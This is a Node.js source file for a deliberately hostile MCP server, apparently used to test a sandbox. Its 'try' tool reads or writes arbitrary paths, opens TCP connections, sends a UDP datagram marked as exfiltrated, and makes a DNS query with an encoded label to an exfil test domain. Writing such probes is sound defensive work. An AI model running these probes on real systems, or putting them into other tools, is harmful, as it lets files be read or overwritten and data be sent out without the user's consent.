#!/usr/bin/env node
// berth-hostile for node: the fetched-path twin of internal/hostile's Go
// server. An MCP server over stdio (newline-delimited JSON-RPC, no
// dependencies) whose tool try makes one attack and answers with the JSON
// of hostile.Result: {attack, arg, ok, got, error}.
"use strict";
const fs = require("fs");
const net = require("net");
const dgram = require("dgram");
const dns = require("dns");
const path = require("path");

const attacks = {
  whoami: async () => `pid=${process.pid} ppid=${process.ppid} uid=${process.getuid()} node=${process.execPath}`,
  read: async (arg) => {
    const st = fs.statSync(arg);
    if (st.isDirectory()) return fs.readdirSync(arg).join("\n");
    return fs.readFileSync(arg, "utf8").slice(0, 4096);
  },
  write: async (arg) => {
    fs.writeFileSync(arg, "written by berth-hostile\n");
    return "wrote " + arg;
  },
  tcp: (arg) => new Promise((resolve, reject) => {
    const i = arg.lastIndexOf(":");
    const c = net.connect({host: arg.slice(0, i), port: Number(arg.slice(i + 1))});
    c.setTimeout(3000, () => { c.destroy(); reject(new Error("timed out")); });
    c.on("error", reject);
    let data = "";
    c.on("data", (d) => { data += d; });
    c.on("end", () => resolve("connected: " + data));
  }),
  udp: (arg) => new Promise((resolve, reject) => {
    const i = arg.lastIndexOf(":");
    const s = dgram.createSocket("udp4");
    const t = setTimeout(() => { s.close(); reject(new Error("sent, no answer")); }, 1000);
    s.on("error", (e) => { clearTimeout(t); s.close(); reject(e); });
    s.on("message", (m) => { clearTimeout(t); s.close(); resolve("answered: " + m); });
    s.send("exfiltrated by berth-hostile", Number(arg.slice(i + 1)), arg.slice(0, i), (e) => {
      if (e) { clearTimeout(t); s.close(); reject(e); }
    });
  }),
  dns: (arg) => new Promise((resolve, reject) => {
    const r = new dns.Resolver({timeout: 1000, tries: 1});
    r.setServers([arg]);
    r.resolve4("c2VjcmV0.exfil.berth-hostile.test", (e, addrs) => {
      if (e && e.code === "ENOTFOUND") resolve("the server answered: no such host");
      else if (e) reject(e);
      else resolve("resolved: " + addrs.join(" "));
    });
  }),
  "proxy-get": async () => {
    for (const k of ["HTTPS_PROXY", "https_proxy", "HTTP_PROXY", "http_proxy", "ALL_PROXY", "all_proxy"]) {
      if (process.env[k]) return "a proxy in the environment: " + process.env[k];
    }
    throw new Error("no proxy in the environment (HTTPS_PROXY, HTTP_PROXY, ALL_PROXY)");
  },
};

async function tryAttack(attack, arg) {
  const r = {attack, arg, ok: false};
  const f = attacks[attack];
  if (!f) { r.error = `no attack "${attack}"`; return r; }
  try {
    r.got = await f(arg || "");
    r.ok = true;
  } catch (e) {
    r.error = e.code ? `${e.code}: ${e.message}` : String(e.message || e);
  }
  return r;
}

const send = (m) => process.stdout.write(JSON.stringify(m) + "\n");
const tool = {name: "try", description: "Tries one attack on its host and says what it got.",
  inputSchema: {type: "object", properties: {attack: {type: "string"}, arg: {type: "string"}}, required: ["attack"]}};
require("readline").createInterface({input: process.stdin}).on("line", async (line) => {
  let m;
  try { m = JSON.parse(line); } catch { return; }
  if (m.id === undefined) return;
  if (m.method === "initialize") {
    send({jsonrpc: "2.0", id: m.id, result: {protocolVersion: m.params.protocolVersion, capabilities: {tools: {}}, serverInfo: {name: "berth-hostile-node", version: "1.0.0"}}});
  } else if (m.method === "tools/list") {
    send({jsonrpc: "2.0", id: m.id, result: {tools: [tool]}});
  } else if (m.method === "tools/call") {
    const a = (m.params && m.params.arguments) || {};
    const r = await tryAttack(a.attack, a.arg);
    send({jsonrpc: "2.0", id: m.id, result: {content: [{type: "text", text: JSON.stringify(r)}]}});
  } else if (m.method === "ping") {
    send({jsonrpc: "2.0", id: m.id, result: {}});
  } else {
    send({jsonrpc: "2.0", id: m.id, error: {code: -32601, message: "no such method"}});
  }
});
